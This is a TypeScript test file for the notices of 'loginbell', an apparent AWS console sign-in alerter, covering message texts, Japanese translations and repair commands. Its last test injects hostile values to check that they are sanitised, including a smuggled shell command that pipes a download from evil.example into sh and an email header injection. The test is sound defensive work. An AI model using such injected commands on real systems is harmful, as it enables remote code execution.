import { describe, expect, it } from 'vitest';
import type { HealthFacts } from '../../../src/health/checks.ts';
import { CHECK_NAMES } from '../../../src/health/checks.ts';
import { judgeHealth } from '../../../src/health/judgeHealth.ts';
import { composeHealthNotice } from '../../../src/notice/composeHealthNotice.ts';
import { healthFacts, NAMES, seen, TRAIL_ARN } from '../../fakes/healthFacts.ts';

const settings = (language: 'ja' | 'en') => {
  return { language, timeZone: 'Asia/Tokyo', accountNames: { '123456789012': 'production' } };
};
const notSeen = { seen: false, reason: 'socket hang up' } as const;

function notice(
  kind: 'broken' | 'warning' | 'unknown' | 'well',
  changes: Partial<HealthFacts> = {},
  language: 'ja' | 'en' = 'en',
) {
  const links = judgeHealth(healthFacts(changes), language).filter(
    ({ verdict }) => kind === 'well' || verdict !== 'ok',
  );
  return composeHealthNotice({ kind, links, accountId: NAMES.accountId }, settings(language));
}

describe('the notice about loginbell itself', () => {
  it('says what broke, what it means and what to type', () => {
    const { subject, text } = notice('broken', { filter: seen(undefined), alarms: notSeen });
    expect(subject).toBe(
      'CRITICAL loginbell: Subscription filter broken (production 123456789012)',
    );
    expect(
      text,
    ).toBe(`loginbell is broken: until this is repaired you may not hear of console sign-ins in time.

- Subscription filter: ConsoleLogin-ab0925cd is not on aws-cloudtrail-loggroup. Nothing reaches the function.
- Alarms (Not checked): It could not be looked at: socket hang up

What to do:
1. Subscription filter: Put it back, and look in the event history who deleted it.
   aws logs put-subscription-filter --region ap-northeast-1 --log-group-name aws-cloudtrail-loggroup --filter-name ConsoleLogin-ab0925cd --filter-pattern '{ $.eventName = "ConsoleLogin" }' --destination-arn ${NAMES.functionArn}
2. Until then the hourly check goes on looking for sign-ins by another way.
`);
  });

  it('says the same in Japanese', () => {
    const { subject, text } = notice('broken', { filter: seen(undefined) }, 'ja');
    expect(subject).toBe(
      '【重要】loginbell: サブスクリプションフィルターに問題 (production 123456789012)',
    );
    expect(text).toContain('aws-cloudtrail-loggroup に ConsoleLogin-ab0925cd がありません。');
    expect(text).not.toMatch(/イベントID/);
  });

  it.each([
    ['en', 'loginbell: Fast path does not work (production 123456789012)', 'some minutes later.'],
    [
      'ja',
      'loginbell: 高速経路が動作していません (production 123456789012)',
      '数分遅れで通知されます。',
    ],
  ] as const)('says of a warning that nothing is lost (%s)', (language, subject, last) => {
    const rule = seen({ state: 'DISABLED', leadsHome: true });
    const fastPath = seen([{ region: 'us-east-1', rule, failed: seen(0) }]);
    const told = notice('warning', { fastPath }, language);
    expect(told).toMatchObject({ subject, attributes: { severity: 'warning' } });
    expect(told.text).toContain('aws events enable-rule --region us-east-1');
    expect(told.text.trimEnd().endsWith(last)).toBe(true);
  });

  it('says that all is well again, link by link', () => {
    const { subject, text, attributes } = notice('well');
    expect(subject).toBe('loginbell: all is well again (production 123456789012)');
    expect(text.match(/^- /gm)).toHaveLength(CHECK_NAMES.length);
    expect(attributes).toMatchObject({ severity: 'info', eventName: 'LoginbellChain' });
  });

  it.each(['ja', 'en'] as const)('keeps subjects short however much is broken (%s)', (language) => {
    const all = {
      trails: seen([]),
      logGroup: seen(undefined),
      permission: seen(false),
      function: seen(undefined),
      table: seen(undefined),
      topic: seen(undefined),
      alarms: seen([]),
    };
    for (const kind of ['broken', 'unknown', 'well'] as const) {
      const { subject } = notice(kind, all, language);
      expect(subject.length).toBeLessThan(100);
      expect(subject).toContain('123456789012');
    }
  });

  it('shows hostile names of trails, subscribers and errors as harmless text', () => {
    const evil = 'email x@evil.example\r\nBcc: y\u202e<script>http://evil.example/\u200b';
    const { text, subject } = notice('broken', {
      topic: seen({ confirmed: 0, pending: [evil] }),
      trails: seen([
        {
          arn: `${TRAIL_ARN}'; curl http://evil.example/x | sh #`,
          multiRegion: false,
          status: seen({ logging: true, deliveryError: evil }),
          events: seen({ kind: 'recorded' }),
        },
      ]),
    });
    expect(text).not.toMatch(/[\u202e\u200b\r]|^Bcc|:\/\/evil|aws cloudtrail/m);
    expect(subject).not.toMatch(/evil/);
  });
});
